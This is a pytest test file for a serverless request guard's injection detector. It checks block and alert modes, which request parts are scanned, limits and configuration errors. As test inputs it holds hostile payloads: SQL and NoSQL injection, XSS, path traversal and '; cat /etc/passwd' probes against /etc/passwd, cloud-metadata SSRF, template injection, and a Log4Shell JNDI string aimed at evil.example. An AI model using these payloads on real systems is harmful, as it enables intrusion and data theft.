"""InjectionCheck: which parts it reads, block and alert modes, limits, configuration errors."""

from __future__ import annotations

import json
from typing import Any

import pytest

from faasguard.guard import EventKind, GuardConfigError, GuardViolation, Mode, Request
from faasguard.guard.detect import Detection, DetectionKind, InjectionCheck, Part


def make_request(
    body: Any = None,
    *,
    content_type: str | None = "application/json",
    query: dict[str, list[str]] | None = None,
    headers: dict[str, str] | None = None,
    **fields: Any,
) -> Request:
    all_headers = dict(headers or {})
    if content_type is not None:
        all_headers["content-type"] = content_type
    raw_body: bytes | None
    if body is None:
        raw_body = None
    elif isinstance(body, bytes):
        raw_body = body
    elif isinstance(body, str):
        raw_body = body.encode()
    else:
        raw_body = json.dumps(body).encode()
    return Request(
        kind=EventKind.API_GATEWAY_HTTP,
        raw={},
        body=raw_body,
        query=query or {},
        headers=all_headers,
        **fields,
    )


def rejected(check: InjectionCheck, request: Request) -> GuardViolation:
    with pytest.raises(GuardViolation) as info:
        check(request)
    return info.value


def test_clean_request_passes() -> None:
    request = make_request(
        {"name": "O'Brien", "note": "select a plan", "tags": ["a", "b"], "n": 3},
        query={"q": ["hello world"]},
        path="/orders/42",
        path_params={"id": "42"},
    )
    InjectionCheck()(request)
    assert request.alerts == []


def test_json_leaf_blocks_with_kind_rule() -> None:
    request = make_request({"order": {"items": [{"sku": "1' OR '1'='1"}]}})
    violation = rejected(InjectionCheck(), request)
    assert (violation.status, violation.rule) == (400, "detect.sqli")
    assert "body.order.items[0].sku" in violation.detail
    assert "sqli.boolean" in violation.detail


def test_json_keys_are_scanned_for_operators() -> None:
    violation = rejected(InjectionCheck(), make_request({"password": {"$ne": None}}))
    assert violation.rule == "detect.nosql"


def test_query_keys_and_values() -> None:
    check = InjectionCheck(("query",))
    assert rejected(check, make_request(query={"user[$ne]": ["x"]})).rule == "detect.nosql"
    assert rejected(check, make_request(query={"f": ["ok", "../../etc/passwd"]})).rule == (
        "detect.path-traversal"
    )


def test_path_and_path_params() -> None:
    check = InjectionCheck((Part.PATH,))
    request = make_request(path="/files/..%2f..%2fetc%2fpasswd")
    assert rejected(check, request).rule == "detect.path-traversal"
    request = make_request(path="/x", path_params={"name": "<svg onload=alert(1)>"})
    assert rejected(check, request).rule == "detect.xss"


def test_only_chosen_parts_are_read() -> None:
    request = make_request({"q": "<script>alert(1)</script>"}, query={"q": ["fine"]})
    InjectionCheck(("query", "path"))(request)
    assert rejected(InjectionCheck(("body",)), request).rule == "detect.xss"


def test_headers_default_list_and_no_ssrf_there() -> None:
    check = InjectionCheck(("headers",))
    request = make_request(headers={"user-agent": "${jndi:ldap://evil.example/a}"})
    assert rejected(check, request).rule == "detect.log4shell"
    # A development Referer is not an SSRF target: the server does not fetch it.
    InjectionCheck(("headers",))(make_request(headers={"referer": "http://localhost:3000/"}))
    # Headers outside the list are not read.
    InjectionCheck(("headers",))(make_request(headers={"x-other": "' OR 1=1--"}))
    custom = InjectionCheck(("headers",), headers=("X-Other",))
    assert rejected(custom, make_request(headers={"x-other": "' OR 1=1--"})).rule == ("detect.sqli")


def test_cookies() -> None:
    request = make_request(cookies={"session": "abc", "pref": "{{7*7}}"})
    assert rejected(InjectionCheck(("cookies",)), request).rule == "detect.template"


def test_form_and_text_bodies() -> None:
    form = make_request(
        "name=bob&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        content_type="application/x-www-form-urlencoded",
    )
    assert rejected(InjectionCheck(), form).rule == "detect.xss"
    text = make_request("hello\n; cat /etc/passwd", content_type="text/plain")
    assert rejected(InjectionCheck(), text).rule == "detect.cmdi"
    sniffed = make_request({"a": "http://169.254.169.254/latest/meta-data/"}, content_type=None)
    assert rejected(InjectionCheck(), sniffed).rule == "detect.ssrf"


def test_invalid_json_body_is_rejected_by_the_request() -> None:
    violation = rejected(InjectionCheck(), make_request("{not json"))
    assert violation.rule == "body.json"


def test_kinds_limit_what_is_looked_for() -> None:
    request = make_request({"a": "<script>alert(1)</script>"})
    InjectionCheck(kinds=["sqli"])(request)
    assert rejected(InjectionCheck(kinds=[DetectionKind.XSS]), request).rule == "detect.xss"


def test_alert_mode_records_once_per_kind_and_lets_through() -> None:
    seen: list[tuple[Detection, str]] = []
    check = InjectionCheck(
        mode="alert", on_alert=lambda req, found, where: seen.append((found, where))
    )
    request = make_request({"a": "' OR 1=1--", "b": "1 UNION SELECT 1", "c": "<script>x</script>"})
    check(request)
    assert sorted(v.rule for v in request.alerts) == ["detect.sqli", "detect.xss"]
    assert all(v.status == 400 for v in request.alerts)
    assert [(f.kind, w) for f, w in seen] == [
        (DetectionKind.SQLI, "body.a"),
        (DetectionKind.XSS, "body.c"),
    ]


def test_mode_per_kind() -> None:
    check = InjectionCheck(modes={"ssrf": "alert"})
    request = make_request({"url": "http://127.0.0.1/admin"})
    check(request)
    assert [v.rule for v in request.alerts] == ["detect.ssrf"]
    assert rejected(check, make_request({"x": "' OR 1=1--"})).rule == "detect.sqli"
    assert check.modes[DetectionKind.SSRF] is Mode.ALERT
    assert check.modes[DetectionKind.SQLI] is Mode.BLOCK


def test_depth_and_count_limits_fail_closed() -> None:
    nested: Any = "ok"
    for _ in range(40):
        nested = {"n": nested}
    assert rejected(InjectionCheck(max_depth=32), make_request(nested)).rule == "detect.depth"
    InjectionCheck(max_depth=64)(make_request(nested))
    many = make_request({"items": [str(i) for i in range(50)]})
    assert rejected(InjectionCheck(max_strings=10), many).rule == "detect.limit"


def test_oversize_strings() -> None:
    big = make_request({"text": "a" * 70_000 + "<script>alert(1)</script>"})
    InjectionCheck()(big)  # default: the first 64 KiB are scanned (documented)
    violation = rejected(InjectionCheck(reject_oversize=True), big)
    assert (violation.status, violation.rule) == (413, "detect.oversize")


@pytest.mark.parametrize(
    "kwargs",
    [
        {"parts": ("body", "nose")},
        {"parts": ()},
        {"kinds": ["sqli", "rce"]},
        {"mode": "log"},
        {"modes": {"xss": "maybe"}},
        {"modes": {"csrf": "alert"}},
        {"max_depth": 0},
        {"max_strings": 0},
    ],
)
def test_misconfiguration_is_found_at_construction(kwargs: dict[str, Any]) -> None:
    with pytest.raises(GuardConfigError):
        InjectionCheck(**kwargs)


def test_is_a_check() -> None:
    check = InjectionCheck()
    assert check.name == "injection"
    assert "body" in repr(check)
